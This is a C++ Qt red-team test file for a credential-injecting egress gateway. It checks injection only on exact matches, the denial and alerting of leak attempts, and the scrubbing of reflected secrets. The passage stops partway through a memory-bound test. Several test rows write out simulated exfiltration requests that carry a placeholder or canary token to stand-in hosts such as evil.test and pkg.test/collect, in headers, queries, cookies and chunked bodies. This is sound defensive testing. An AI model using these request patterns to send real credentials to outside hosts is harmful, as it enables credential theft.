// docs/redteam-cases.md class I (credentials, issue 4), from the guest namespace through the real
// nftables table and airlock-gateway to the recording api.test upstream: the injected value is
// exactly right, near misses get no injection, a placeholder (or the value) anywhere else is
// credential_exfil with an alert, reflections are scrubbed, and the secret is in no log, event
// or core file. The gateway runs with every debug category on (QT_LOGGING_RULES). docs/redteam.md.
#include "core/daemon/gatewayprocess.h"
#include "core/gateway/credentials/credentialpatterns.h"
#include "core/gateway/eventratelimiter.h"
#include "core/pki/sandboxca.h"
#include "redteamtestbase.h"
#include "sanitizer.h"

#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QProcess>
#include <QTemporaryDir>
#include <QTest>

#include <csignal>

#include <zlib.h>

using namespace airlock::redteam;
using namespace Qt::StringLiterals;

namespace {

// The canary (docs/redteam-cases.md SECRET): characters that change under percent-encoding and give
// distinct base64 forms at every alignment.
const QByteArray kSecret = "sk-live_4f9a/Zq+8w=Tr~ue!xY"_ba;
const QByteArray kPlaceholder = "airlock-placeholder-5e1f0c2b9a7d4e6f8a1b3c5d7e9f0a2b"_ba;
constexpr qint64 kBinding = 11;

QJsonObject credentialsMessage(qint64 valueBytes)
{
    const QJsonObject entry {
        {u"binding"_s, kBinding},
        {u"secret"_s, u"api-token"_s},
        {u"host"_s, u"api.test"_s},
        {u"pathPrefix"_s, u"/v1"_s},
        {u"methods"_s, QJsonArray {u"GET"_s, u"POST"_s}},
        {u"placement"_s,
         QJsonObject {{u"type"_s, u"header"_s},
                      {u"header"_s, u"Authorization"_s},
                      {u"template"_s, u"Bearer {secret}"_s}}},
        {u"placeholder"_s, QString::fromLatin1(kPlaceholder)},
        {u"valueBytes"_s, valueBytes},
    };
    return {{u"type"_s, u"credentials"_s}, {u"credentials"_s, QJsonArray {entry}}};
}

QJsonObject credentialPolicy()
{
    auto rule = [](const QString &host, QJsonArray ports) {
        return QJsonObject {{u"host"_s, host}, {u"ports"_s, ports}};
    };
    // api.test on the near-miss ports too, so the credential check (not the policy) decides.
    return {{u"version"_s, 1},
            {u"rules"_s,
             QJsonArray {rule(u"pkg.test"_s, {443}), rule(u"api.test"_s, {443, 80, 8443}),
                         rule(u"http.test"_s, {80})}}};
}

// Every form of the secret the gateway must never let out (raw, percent-encoded, base64).
QList<QByteArray> secretForms()
{
    return airlock::gateway::credentialForms(kSecret);
}

// Which forms of the secret `haystack` holds; empty when none.
QString leakedForms(const QByteArray &haystack, const QString &where)
{
    QStringList found;
    for (const QByteArray &form : secretForms()) {
        if (haystack.contains(form))
            found << QString::fromLatin1(form);
    }
    return found.isEmpty() ? QString()
                           : u"the secret appears in %1 as %2"_s.arg(where, found.join(u", "));
}

// What a guest gets out of a body in any zlib coding (gzip, zlib or raw deflate), as a guest
// that decodes Content-Encoding would; `data` itself when it is none of them.
QByteArray inflated(const QByteArray &data)
{
    for (const int windowBits : {15 + 32, -15}) {
        z_stream stream {};
        if (inflateInit2(&stream, windowBits) != Z_OK)
            continue;
        QByteArray out(1 << 20, '\0');
        stream.next_in = reinterpret_cast<Bytef *>(const_cast<char *>(data.constData()));
        stream.avail_in = uInt(data.size());
        stream.next_out = reinterpret_cast<Bytef *>(out.data());
        stream.avail_out = uInt(out.size());
        const int rc = inflate(&stream, Z_FINISH);
        out.truncate(qsizetype(stream.total_out));
        inflateEnd(&stream);
        if (rc == Z_STREAM_END)
            return out;
    }
    return data;
}

// The config of a gateway started next to the topology's (no guest link of its own), with a
// fresh sandbox CA saved in `directory`; empty on failure.
QJsonObject standaloneConfig(const QString &directory)
{
    const QDir dir(directory);
    auto ca = airlock::pki::SandboxCa::generate(u"core-test"_s);
    if (!ca)
        return {};
    const QString keyPath = dir.filePath(u"ca.key"_s);
    if (!ca->save(dir.filePath(u"ca.pem"_s), keyPath))
        return {};
    QFile keyFile(keyPath);
    if (!keyFile.open(QIODevice::ReadOnly))
        return {};
    return {
        {u"version"_s, 1},
        {u"sandbox"_s, u"core-test"_s},
        {u"listen"_s, QJsonObject {{u"tcp"_s, u"127.0.0.1:0"_s}, {u"dns"_s, u"127.0.0.1:0"_s}}},
        {u"link"_s,
         QJsonObject {{u"gateway"_s, u"100.96.0.5"_s},
                      {u"guest"_s, u"100.96.0.6"_s},
                      {u"prefixLength"_s, 30}}},
        {u"syntheticPool"_s, u"100.112.0.0/16"_s},
        {u"upstreamDns"_s, QJsonObject {{u"address"_s, u"127.0.0.1"_s}}},
        {u"ca"_s,
         QJsonObject {{u"certificatePem"_s, QString::fromLatin1(ca->certificatePem())},
                      {u"keyPem"_s, QString::fromLatin1(keyFile.readAll())}}},
        {u"policy"_s, QJsonObject {{u"version"_s, 1}, {u"rules"_s, QJsonArray()}}},
    };
}

QByteArray get(const QByteArray &target, const QByteArray &host, const QByteArray &authorization,
               const QByteArray &method = "GET"_ba, const QByteArray &version = "HTTP/1.1"_ba)
{
    QByteArray request = method + ' ' + target + ' ' + version + "\r\nHost: " + host + "\r\n";
    if (!authorization.isEmpty())
        request += "Authorization: " + authorization + "\r\n";
    return request + "Accept: */*\r\n\r\n";
}

} // namespace

class TestRedteamCredentials : public RedteamTestBase
{
    Q_OBJECT
private Q_SLOTS:
    void initTestCase();
    void cleanupTestCase();

    void I1_exactMatchGetsTheExactValue_data();
    void I1_exactMatchGetsTheExactValue();
    void I1_nearMissesGetNoInjection_data();
    void I1_nearMissesGetNoInjection();
    void I1_noPlaceholderNoInjection();
    void I1_connectTunnelIsHttps_data();
    void I1_connectTunnelIsHttps();
    void I2_placeholderOrValueElsewhere_data();
    void I2_placeholderOrValueElsewhere();
    void I2_bodyCarriesThePlaceholder_data();
    void I2_bodyCarriesThePlaceholder();
    void I2_deniedHostSeesNothing();
    void I2_deniedHostStillRaisesTheAlert_data();
    void I2_deniedHostStillRaisesTheAlert();
    void I3_reflectionIsScrubbed_data();
    void I3_reflectionIsScrubbed();
    void I3_http10ResponseIsCloseDelimited();
    void I3_compressedResponseIsDecodedOrRefused_data();
    void I3_compressedResponseIsDecodedOrRefused();
    void I3_rangeIsNotForwarded_data();
    void I3_rangeIsNotForwarded();
    void upstreamErrorAfterInjection();
    void pipelinedRequestsStayBounded();
    void connectFollowedByMoreThanASlice();
    void eventFloodIsSummarized();
    void credentialsChangeWhileRunning();
    void I3_retiredValuesAreStillScrubbed();
    void I4_secretInNoLogOrEvent();
    void I4_crashedGatewayLeavesNoCore();
    void logAndMemoryAreBounded();
    void noInjectionWithMethodOrPathOverride_data();
    void noInjectionWithMethodOrPathOverride();

private:
    /// TLS to api.test's synthetic address (port `port`) with `sni`, one request, the response;
    /// everything the guest received is kept for I4.
    HttpResponse viaTls(const QByteArray &sni, const QByteArray &request, quint16 port = 443,
                        const QString &name = u"api.test"_s);
    HttpResponse via(const QString &mode, const QByteArray &request);
    bool sendCredentials(qint64 valueBytes, const QByteArray &payload, QString *answer);

    QByteArray m_guestSaw; ///< every byte any guest client of this binary received
};

void TestRedteamCredentials::initTestCase()
{
    // The most verbose level for the gateway (inherited): I4 searches its log.
    qputenv("QT_LOGGING_RULES", "*.debug=true");
    qputenv("QT_MESSAGE_PATTERN", "%{category} %{type}: %{message}");
    RedteamTestBase::initTestCase();
    QVERIFY(m_topo.setPolicy(credentialPolicy()));
    QString answer;
    QVERIFY2(sendCredentials(kSecret.size(), kSecret, &answer), qPrintable(answer));
}

void TestRedteamCredentials::cleanupTestCase()
{
    RedteamTestBase::cleanupTestCase();
    qunsetenv("QT_LOGGING_RULES");
    qunsetenv("QT_MESSAGE_PATTERN");
}

bool TestRedteamCredentials::sendCredentials(qint64 valueBytes, const QByteArray &payload,
                                             QString *answer)
{
    if (!m_topo.gateway().send(credentialsMessage(valueBytes), payload)) {
        *answer = u"cannot send the credentials message"_s;
        return false;
    }
    const auto applied = m_topo.gateway().waitForMessage(u"credentialsApplied"_s, 3000);
    *answer = applied ? QString() : u"no credentialsApplied:\n"_s + m_topo.gateway().logTail();
    return applied.has_value();
}

HttpResponse TestRedteamCredentials::viaTls(const QByteArray &sni, const QByteArray &request,
                                            quint16 port, const QString &name)
{
    const QHostAddress address = m_topo.resolveAddress(name);
    if (address.isNull())
        return {};
    bool handshake = false;
    auto connection = openTls(address, sni, &handshake, port);
    if (!connection || !handshake || !connection->send(request))
        return {};
    HttpResponse response = connection->readResponse();
    m_guestSaw += response.head + response.body;
    return response;
}

HttpResponse TestRedteamCredentials::via(const QString &mode, const QByteArray &request)
{
    QString problem;
    HttpResponse response = requestVia(mode, request, &problem);
    m_guestSaw += response.head + response.body;
    return response;
}

// I1: the exact match gets the value, exactly: one Authorization field, the template filled
// with the secret's bytes; a trailing dot on SNI and Host is the same name
// (docs/redteam-cases.md B1).
void TestRedteamCredentials::I1_exactMatchGetsTheExactValue_data()
{
    QTest::addColumn<QByteArray>("name");
    QTest::addColumn<QByteArray>("extra");
    QTest::newRow("api.test") << "api.test"_ba << QByteArray();
    QTest::newRow("trailing dot on SNI and Host") << "api.test."_ba << QByteArray();
    QTest::newRow("upper case") << "API.Test"_ba << QByteArray();
    QTest::newRow("guest's own second Authorization dropped")
        << "api.test"_ba
        << "authorization: Basic Zm9vOmJhcg==\r\n"_ba;
}

void TestRedteamCredentials::I1_exactMatchGetsTheExactValue()
{
    QFETCH(QByteArray, name);
    QFETCH(QByteArray, extra);
    QByteArray request = get("/v1/items?page=2"_ba, name, "Bearer " + kPlaceholder);
    request.insert(request.size() - 2, extra);
    const HttpResponse response = viaTls(name, request);
    QCOMPARE(response.status, 200);
    QVERIFY2(response.complete && response.chunked, response.head.constData());
    const auto api = m_topo.upstream().connections(u"api"_s);
    QCOMPARE(api.size(), 1);
    QCOMPARE(api.first().requests.size(), 1);
    const auto &seen = api.first().requests.first();
    QCOMPARE(seen.values("Authorization"), QList<QByteArray> {"Bearer " + kSecret});
    QCOMPARE(seen.target, "/v1/items?page=2"_ba);
    // The upstream echoed the head: the guest gets the placeholder back, never the value.
    QVERIFY2(response.body.contains("Authorization: Bearer " + kPlaceholder),
             response.body.constData());
    REDTEAM_CHECK(leakedForms(response.head + response.body, u"the response"_s));
    const auto event = m_topo.gateway().waitForEvent(
        [](const QJsonObject &e) {
            return e.value(u"verdict"_s) == u"allowed"_s && e.value(u"layer"_s) == u"http"_s;
        },
        3000);
    QVERIFY2(event, qPrintable(eventsText(m_topo.gateway())));
    QCOMPARE(event->value(u"binding"_s).toInteger(), kBinding);
    QVERIFY(event->value(u"scrubbed"_s).toInteger() >= 1);
    QVERIFY(event->value(u"alert"_s).toBool());
}

// I1: near misses carry the placeholder but are not the binding: nothing is injected, the
// request is refused, the upstream sees neither the value nor (for credential_exfil) anything.
void TestRedteamCredentials::I1_nearMissesGetNoInjection_data()
{
    QTest::addColumn<QString>("mode"); // tls:<sni>:<port>, http (port 80), proxy
    QTest::addColumn<QByteArray>("request");
    QTest::addColumn<int>("status");
    QTest::addColumn<QString>("reason");
    const QByteArray bearer = "Bearer " + kPlaceholder;
    QTest::newRow("cleartext port 80")
        << u"http"_s << get("/v1/items"_ba, "api.test"_ba, bearer) << 403 << u"credential_exfil"_s;
    QTest::newRow("cleartext through the explicit proxy")
        << u"proxy"_s << get("http://api.test/v1/items"_ba, "api.test"_ba, bearer) << 403
        << u"credential_exfil"_s;
    QTest::newRow("other port 8443")
        << u"tls:api.test:8443"_s << get("/v1/items"_ba, "api.test:8443"_ba, bearer) << 403
        << u"credential_exfil"_s;
    QTest::newRow("Host api.test.evil.test")
        << u"tls:api.test:443"_s << get("/v1/items"_ba, "api.test.evil.test"_ba, bearer) << 421
        << u"sni_host_mismatch"_s;
    QTest::newRow("other path") << u"tls:api.test:443"_s
                                << get("/v2/items"_ba, "api.test"_ba, bearer) << 403
                                << u"credential_exfil"_s;
    QTest::newRow("path prefix without a segment boundary")
        << u"tls:api.test:443"_s << get("/v1x"_ba, "api.test"_ba, bearer) << 403
        << u"credential_exfil"_s;
    QTest::newRow("other method") << u"tls:api.test:443"_s
                                  << get("/v1/items"_ba, "api.test"_ba, bearer, "DELETE"_ba) << 403
                                  << u"credential_exfil"_s;
    QTest::newRow("placeholder in the query of another path")
        << u"tls:api.test:443"_s << get("/v2/x?token=" + kPlaceholder, "api.test"_ba, QByteArray())
        << 403 << u"credential_exfil"_s;
}

void TestRedteamCredentials::I1_nearMissesGetNoInjection()
{
    QFETCH(QString, mode);
    QFETCH(QByteArray, request);
    QFETCH(int, status);
    QFETCH(QString, reason);
    HttpResponse response;
    if (mode.startsWith(u"tls:")) {
        const QStringList parts = mode.split(u':');
        response = viaTls(parts.at(1).toLatin1(), request, quint16(parts.at(2).toUInt()));
    } else if (mode == u"http") {
        response = via(u"http:api.test"_s, request);
    } else {
        response = via(u"proxy"_s, request);
    }
    REDTEAM_CHECK(expectDenyHttp(response, {status}, {reason}));
    REDTEAM_CHECK(expectEgress(m_topo.gateway(), u"denied"_s, {reason}));
    if (reason == u"credential_exfil") {
        const auto event = m_topo.gateway().waitForEvent(
            [](const QJsonObject &e) { return e.value(u"reason"_s) == u"credential_exfil"_s; },
            1000);
        QVERIFY(event);
        QCOMPARE(event->value(u"binding"_s).toInteger(), kBinding);
        QVERIFY(event->value(u"alert"_s).toBool());
        QCOMPARE(event->value(u"status"_s).toInt(), 403);
    }
    REDTEAM_CHECK(recordedTraffic(m_topo.upstream(), u"api"_s));
    REDTEAM_CHECK(leakedForms(response.head + response.body, u"the denial"_s));
}

// Nothing is injected into a request that does not carry the placeholder, even on an exact
// match: the guest decides whether a request uses the credential.
void TestRedteamCredentials::I1_noPlaceholderNoInjection()
{
    const HttpResponse response = viaTls("api.test"_ba, get("/v1/items"_ba, "api.test"_ba, {}));
    QCOMPARE(response.status, 200);
    const auto api = m_topo.upstream().connections(u"api"_s);
    QCOMPARE(api.size(), 1);
    QVERIFY(api.first().requests.first().values("Authorization").isEmpty());
    REDTEAM_CHECK(leakedForms(api.first().received, u"the upstream's bytes"_s));
}

// TLS inside the explicit proxy's CONNECT is https like any other: CONNECT api.test:443 gets
// the injection, CONNECT api.test:8443 (another port) a credential_exfil.
void TestRedteamCredentials::I1_connectTunnelIsHttps_data()
{
    QTest::addColumn<int>("port");
    QTest::addColumn<int>("status");
    QTest::newRow("CONNECT api.test:443") << 443 << 200;
    QTest::newRow("CONNECT api.test:8443") << 8443 << 403;
}

void TestRedteamCredentials::I1_connectTunnelIsHttps()
{
    QFETCH(int, port);
    QFETCH(int, status);
    auto connection = openProxy();
    QVERIFY2(connection, "cannot connect to the explicit proxy GW:3128");
    const QByteArray authority = "api.test:" + QByteArray::number(port);
    QVERIFY(
        connection->send("CONNECT " + authority + " HTTP/1.1\r\nHost: " + authority + "\r\n\r\n"));
    const HttpResponse established = connection->readHead();
    QVERIFY2(established.status == 200, established.head.constData());
    QVERIFY2(connection->startTls("api.test"_ba, m_topo.sandboxCaPem(), u"api.test"_s),
             qPrintable(connection->lastError()));
    QVERIFY(connection->send(
        get("/v1/items"_ba, port == 443 ? "api.test"_ba : authority, "Bearer " + kPlaceholder)));
    const HttpResponse response = connection->readResponse();
    m_guestSaw += response.head + response.body;
    QCOMPARE(response.status, status);
    REDTEAM_CHECK(leakedForms(response.head + response.body, u"the response"_s));
    const auto api = m_topo.upstream().connections(u"api"_s);
    if (status == 200) {
        QCOMPARE(api.size(), 1);
        QCOMPARE(api.first().requests.first().values("Authorization"),
                 QList<QByteArray> {"Bearer " + kSecret});
    } else {
        REDTEAM_CHECK(expectDenyHttp(response, {403}, {u"credential_exfil"_s}));
        REDTEAM_CHECK(recordedTraffic(m_topo.upstream(), u"api"_s));
    }
}

// I2: the placeholder, or the value itself, in a request to another host (allowed by the
// policy) is credential_exfil with an alert; pkg.test receives nothing.
void TestRedteamCredentials::I2_placeholderOrValueElsewhere_data()
{
    QTest::addColumn<QByteArray>("request");
    QTest::addColumn<QString>("name");
    QTest::newRow("placeholder in Authorization")
        << get("/"_ba, "pkg.test"_ba, "Bearer " + kPlaceholder) << u"pkg.test"_s;
    QTest::newRow("placeholder in the query")
        << get("/collect?k=" + kPlaceholder, "pkg.test"_ba, {}) << u"pkg.test"_s;
    QTest::newRow("placeholder base64 in Basic")
        << get("/"_ba, "pkg.test"_ba, "Basic " + ("u:" + kPlaceholder).toBase64()) << u"pkg.test"_s;
    QTest::newRow("placeholder in a cookie")
        << ("GET / HTTP/1.1\r\nHost: pkg.test\r\nCookie: t=" + kPlaceholder + "\r\n\r\n")
        << u"pkg.test"_s;
    QTest::newRow("the value itself to pkg.test")
        << get("/"_ba, "pkg.test"_ba, "Bearer " + kSecret) << u"pkg.test"_s;
    QTest::newRow("the value percent-encoded in a query")
        << get("/?t=" + kSecret.toPercentEncoding(), "pkg.test"_ba, {}) << u"pkg.test"_s;
    QTest::newRow("the value itself to api.test's bound path")
        << get("/v1/items"_ba, "api.test"_ba, "Bearer " + kSecret) << u"api.test"_s;
}

void TestRedteamCredentials::I2_placeholderOrValueElsewhere()
{
    QFETCH(QByteArray, request);
    QFETCH(QString, name);
    const HttpResponse response = viaTls(name.toLatin1(), request, 443, name);
    REDTEAM_CHECK(expectDenyHttp(response, {403}, {u"credential_exfil"_s}));
    const auto event = m_topo.gateway().waitForEvent(
        [](const QJsonObject &e) { return e.value(u"reason"_s) == u"credential_exfil"_s; }, 3000);
    QVERIFY2(event, qPrintable(eventsText(m_topo.gateway())));
    QVERIFY(event->value(u"alert"_s).toBool());
    QCOMPARE(event->value(u"binding"_s).toInteger(), kBinding);
    REDTEAM_CHECK(recordedTraffic(m_topo.upstream()));
}

// I2 in a body: the scanner holds back what could be the start of a placeholder, so the
// upstream gets the head and harmless bytes at most, never the placeholder, also when it is
// split across chunks (the scan sees the de-chunked data).
void TestRedteamCredentials::I2_bodyCarriesThePlaceholder_data()
{
    QTest::addColumn<QByteArray>("request");
    const QByteArray body = "{\"note\":\"hello\",\"token\":\"" + kPlaceholder + "\"}";
    QTest::newRow("Content-Length body")
        << ("POST /upload HTTP/1.1\r\nHost: pkg.test\r\nContent-Length: "
            + QByteArray::number(body.size()) + "\r\n\r\n" + body);
    QByteArray chunked =
        "POST /upload HTTP/1.1\r\nHost: pkg.test\r\nTransfer-Encoding: chunked\r\n\r\n";
    for (qsizetype at = 0; at < body.size(); at += 5) {
        const QByteArray piece = body.mid(at, 5);
        chunked += QByteArray::number(piece.size(), 16) + "\r\n" + piece + "\r\n";
    }
    QTest::newRow("split across 5-byte chunks") << chunked + "0\r\n\r\n";
}

void TestRedteamCredentials::I2_bodyCarriesThePlaceholder()
{
    QFETCH(QByteArray, request);
    const HttpResponse response = viaTls("pkg.test"_ba, request, 443, u"pkg.test"_s);
    REDTEAM_CHECK(expectDenyHttp(response, {403}, {u"credential_exfil"_s}));
    const auto event = m_topo.gateway().waitForEvent(
        [](const QJsonObject &e) { return e.value(u"reason"_s) == u"credential_exfil"_s; }, 3000);
    QVERIFY2(event, qPrintable(eventsText(m_topo.gateway())));
    QCOMPARE(event->value(u"binding"_s).toInteger(), kBinding);
    QVERIFY(event->value(u"alert"_s).toBool());
    QVERIFY(m_topo.settle());
    for (const ConnectionRecord &record : m_topo.upstream().connections()) {
        QVERIFY2(!record.received.contains(kPlaceholder.left(24)), record.received.constData());
        for (const HttpRequestRecord &seen : record.requests)
            QVERIFY2(seen.body.isEmpty(), "the upstream got a complete request body");
    }
}

// I2 to a host the policy denies: refused at the ClientHello, evil.test sees no connection.
void TestRedteamCredentials::I2_deniedHostSeesNothing()
{
    bool handshake = true;
    auto connection = openTls(topo::EvilServer, "evil.test"_ba, &handshake);
    QVERIFY(connection);
    QVERIFY(!handshake);
    REDTEAM_CHECK(expectEgress(m_topo.gateway(), u"denied"_s, {u"host_not_allowed"_s}));
    REDTEAM_CHECK(recordedTraffic(m_topo.upstream(), u"evil"_s));
}

// I2 to a host the policy denies, where the gateway sees the request (cleartext, the explicit
// proxy): refused for the host, and still the credential alert, counted against the binding.
void TestRedteamCredentials::I2_deniedHostStillRaisesTheAlert_data()
{
    QTest::addColumn<QString>("mode");
    QTest::addColumn<QByteArray>("request");
    const QByteArray bearer = "Bearer " + kPlaceholder;
    QTest::newRow("cleartext port 80")
        << u"http:evil.test"_s << get("/x"_ba, "evil.test"_ba, bearer);
    QTest::newRow("through the explicit proxy")
        << u"proxy"_s << get("http://evil.test/x"_ba, "evil.test"_ba, bearer);
    QTest::newRow("in the query") << u"http:evil.test"_s
                                  << get("/c?k=" + kPlaceholder, "evil.test"_ba, QByteArray());
}

void TestRedteamCredentials::I2_deniedHostStillRaisesTheAlert()
{
    QFETCH(QString, mode);
    QFETCH(QByteArray, request);
    const HttpResponse response = via(mode, request);
    REDTEAM_CHECK(expectDenyHttp(response, {403}, {u"host_not_allowed"_s}));
    const auto event = m_topo.gateway().waitForEvent(
        [](const QJsonObject &e) {
            return e.value(u"reason"_s) == u"host_not_allowed"_s && e.contains(u"binding"_s);
        },
        3000);
    QVERIFY2(event, qPrintable(eventsText(m_topo.gateway())));
    QVERIFY(event->value(u"alert"_s).toBool());
    QCOMPARE(event->value(u"binding"_s).toInteger(), kBinding);
    QVERIFY2(event->value(u"detail"_s).toString().contains(u"credential"_s),
             qPrintable(event->value(u"detail"_s).toString()));
    REDTEAM_CHECK(recordedTraffic(m_topo.upstream(), u"evil"_s));
}

// I3: api.test reflects the token (401 "invalid token SECRET" with it in WWW-Authenticate;
// raw, base64 and percent-encoded in a chunked body): the guest sees only the placeholder, the
// response still parses (re-framed as chunked), and the event raises an alert.
void TestRedteamCredentials::I3_reflectionIsScrubbed_data()
{
    QTest::addColumn<QByteArray>("path");
    QTest::addColumn<int>("status");
    QTest::addColumn<QByteArray>("expected");
    QTest::newRow("401 invalid token")
        << "/v1/unauthorized"_ba << 401 << "invalid token " + kPlaceholder + "\n";
    QTest::newRow("encoded forms in a chunked body")
        << "/v1/reflect-encoded"_ba << 200 << "b64=" + kPlaceholder;
}

void TestRedteamCredentials::I3_reflectionIsScrubbed()
{
    QFETCH(QByteArray, path);
    QFETCH(int, status);
    QFETCH(QByteArray, expected);
    const HttpResponse response =
        viaTls("api.test"_ba, get(path, "api.test"_ba, "Bearer " + kPlaceholder));
    QCOMPARE(response.status, status);
    QVERIFY2(response.complete && response.chunked, response.head.constData());
    QVERIFY2(response.body.contains(expected), response.body.constData());
    REDTEAM_CHECK(leakedForms(response.head + response.body, u"the response"_s));
    if (status == 401)
        QVERIFY2(response.header("WWW-Authenticate").contains(kPlaceholder),
                 response.head.constData());
    // The upstream did get the value (it was injected): what it sent back was scrubbed.
    const auto api = m_topo.upstream().connections(u"api"_s);
    QCOMPARE(api.size(), 1);
    QCOMPARE(api.first().requests.first().values("Authorization"),
             QList<QByteArray> {"Bearer " + kSecret});
    const auto event = m_topo.gateway().waitForEvent(
        [](const QJsonObject &e) { return e.value(u"scrubbed"_s).toInteger() > 0; }, 3000);
    QVERIFY2(event, qPrintable(eventsText(m_topo.gateway())));
    QVERIFY(event->value(u"alert"_s).toBool());
    QCOMPARE(event->value(u"binding"_s).toInteger(), kBinding);
}

// An HTTP/1.0 guest cannot read chunked: its scrubbed response is close-delimited instead.
void TestRedteamCredentials::I3_http10ResponseIsCloseDelimited()
{
    const HttpResponse response = viaTls("api.test"_ba,
                                         get("/v1/unauthorized"_ba, "api.test"_ba,
                                             "Bearer " + kPlaceholder, "GET"_ba, "HTTP/1.0"_ba));
    QCOMPARE(response.status, 401);
    QVERIFY2(!response.chunked && response.header("Content-Length").isEmpty()
                 && response.header("Connection").toLower() == "close",
             response.head.constData());
    QVERIFY2(response.complete, "the close-delimited response did not end with the connection");
    QCOMPARE(response.body, "invalid token " + kPlaceholder + "\n");
}

// docs/reviews/2026-12-01-credentials-redteam.md#f1: the guest asks for gzip, the upstream
// compresses (a front end that always does, or one that honours the ask). The gateway asks for
// identity instead; a body that still arrives in gzip or deflate (content- or transfer-coding) is
// decoded, scrubbed and sent without its coding; any other coding is refused (502
// unscrubbable_response, alert).
void TestRedteamCredentials::I3_compressedResponseIsDecodedOrRefused_data()
{
    QTest::addColumn<QByteArray>("path");
    QTest::addColumn<bool>("refused");
    QTest::newRow("gzip honouring the ask") << "/v1/coded-gzip-if-asked"_ba << false;
    QTest::newRow("gzip anyway") << "/v1/coded-gzip"_ba << false;
    QTest::newRow("deflate (zlib)") << "/v1/coded-deflate"_ba << false;
    QTest::newRow("deflate (raw)") << "/v1/coded-raw-deflate"_ba << false;
    QTest::newRow("transfer-coding gzip, chunked") << "/v1/coded-te-gzip"_ba << false;
    QTest::newRow("br: not decodable") << "/v1/coded-br"_ba << true;
}

void TestRedteamCredentials::I3_compressedResponseIsDecodedOrRefused()
{
    QFETCH(QByteArray, path);
    QFETCH(bool, refused);
    m_topo.resetObservations();
    const QByteArray request = "GET " + path
        + " HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer " + kPlaceholder
        + "\r\nAccept-Encoding: gzip, deflate, br\r\nTE: gzip\r\n\r\n";
    const HttpResponse response = viaTls("api.test"_ba, request);
    // Whatever came back, decoded as the guest could decode it, holds no form of the secret.
    REDTEAM_CHECK(leakedForms(response.head + inflated(response.body), u"the decoded response"_s));
    const auto api = m_topo.upstream().connections(u"api"_s);
    QCOMPARE(api.size(), 1);
    QCOMPARE(api.first().requests.first().values("Accept-Encoding"),
             QList<QByteArray> {"identity"_ba});
    QVERIFY(api.first().requests.first().values("TE").isEmpty());
    if (refused) {
        REDTEAM_CHECK(expectDenyHttp(response, {502}, {u"unscrubbable_response"_s}));
        const auto event = m_topo.gateway().waitForEvent(
            [](const QJsonObject &e) { return e.value(u"reason"_s) == u"unscrubbable_response"_s; },
            3000);
        QVERIFY2(event, qPrintable(eventsText(m_topo.gateway())));
        QVERIFY(event->value(u"alert"_s).toBool());
        QCOMPARE(event->value(u"binding"_s).toInteger(), kBinding);
        return;
    }
    QCOMPARE(response.status, 200);
    QVERIFY2(response.complete && response.chunked, response.head.constData());
    QVERIFY2(response.header("Content-Encoding").isEmpty(), response.head.constData());
    // The body is the upstream's echo in the clear, with the placeholder where the value was.
    QVERIFY2(response.body.contains("Authorization: Bearer " + kPlaceholder),
             response.body.constData());
    QVERIFY2(!path.endsWith("if-asked") || response.body.contains("Accept-Encoding: identity"),
             response.body.constData());
}

// docs/reviews/2026-12-01-credentials-redteam.md#f3: with Range the guest fetches a reflected
// secret in slices, none of which is a whole form. Range and If-Range never reach the upstream
// while the gateway scrubs; a 206 that comes anyway is refused.
void TestRedteamCredentials::I3_rangeIsNotForwarded_data()
{
    QTest::addColumn<QByteArray>("path");
    QTest::addColumn<QByteArray>("range");
    QTest::newRow("a slice inside the value") << "/v1/range"_ba
                                              << "bytes=30-45"_ba;
    QTest::newRow("two ranges") << "/v1/range"_ba
                                << "bytes=0-40, 41-90"_ba;
    QTest::newRow("206 without asking") << "/v1/range-always"_ba << QByteArray();
}

void TestRedteamCredentials::I3_rangeIsNotForwarded()
{
    QFETCH(QByteArray, path);
    QFETCH(QByteArray, range);
    m_topo.resetObservations();
    QByteArray request = "GET " + path + " HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer "
        + kPlaceholder + "\r\n";
    if (!range.isEmpty())
        request += "Range: " + range + "\r\nIf-Range: \"etag\"\r\n";
    const HttpResponse response = viaTls("api.test"_ba, request + "\r\n");
    const auto api = m_topo.upstream().connections(u"api"_s);
    QCOMPARE(api.size(), 1);
    QVERIFY(api.first().requests.first().values("Range").isEmpty());
    QVERIFY(api.first().requests.first().values("If-Range").isEmpty());
    if (range.isEmpty()) {
        REDTEAM_CHECK(expectDenyHttp(response, {502}, {u"unscrubbable_response"_s}));
        return;
    }
    QCOMPARE(response.status, 200);
    QVERIFY2(response.body.contains("Authorization: Bearer " + kPlaceholder),
             response.body.constData());
    REDTEAM_CHECK(leakedForms(response.head + response.body, u"the response"_s));
}

// I4 "with upstream errors": the upstream takes the injected request and hangs up; the guest's
// connection ends without a response, the event says why, and nothing names the secret (the
// log and events are searched in I4).
void TestRedteamCredentials::upstreamErrorAfterInjection()
{
    const HttpResponse response =
        viaTls("api.test"_ba, get("/v1/hangup"_ba, "api.test"_ba, "Bearer " + kPlaceholder));
    QCOMPARE(response.status, 0);
    const auto event = m_topo.gateway().waitForEvent(
        [](const QJsonObject &e) {
            return e.value(u"layer"_s) == u"http"_s
                && e.value(u"detail"_s).toString().contains(u"upstream closed"_s);
        },
        3000);
    QVERIFY2(event, qPrintable(eventsText(m_topo.gateway())));
    QCOMPARE(event->value(u"binding"_s).toInteger(), kBinding); // it was sent: counted
    const auto api = m_topo.upstream().connections(u"api"_s);
    QCOMPARE(api.size(), 1);
    QCOMPARE(api.first().requests.first().values("Authorization"),
             QList<QByteArray> {"Bearer " + kSecret});
    REDTEAM_CHECK(leakedForms(response.head + response.body, u"what the guest got"_s));
}

// docs/reviews/2026-12-01-credentials-redteam.md#f5: a guest pipelines requests and never reads a
// byte. The gateway stops reading it once kMaxPipeline requests are in flight, so the guest's sends
// stall (kernel buffers fill) and the gateway's memory stays flat; before, every request became
// bookkeeping (+100 MB per connection in the report).
void TestRedteamCredentials::pipelinedRequestsStayBounded()
{
    AIRLOCK_SKIP_WHEN_SANITIZED("memory figures are AddressSanitizer's in this build");
    auto rssKiB = [this] {
        QFile status(u"/proc/%1/status"_s.arg(m_topo.gateway().pid()));
        if (!status.open(QIODevice::ReadOnly))
            return qint64(-1);
        for (const QByteArray &line : status.readAll().split('\n')) {
            if (line.startsWith("VmRSS:"))
                return line.mid(6).trimmed().split(' ').value(0).toLongLong();
        }
        return qint64(-1);
    };
    const qint64 before = rssKiB();
    QVERIFY(before > 0);
    bool handshake = false;
    auto connection = openTls(m_topo.resolveAddress(u"api.test"_s), "api.test"_ba, &handshake);
    QVERIFY(connection && handshake);
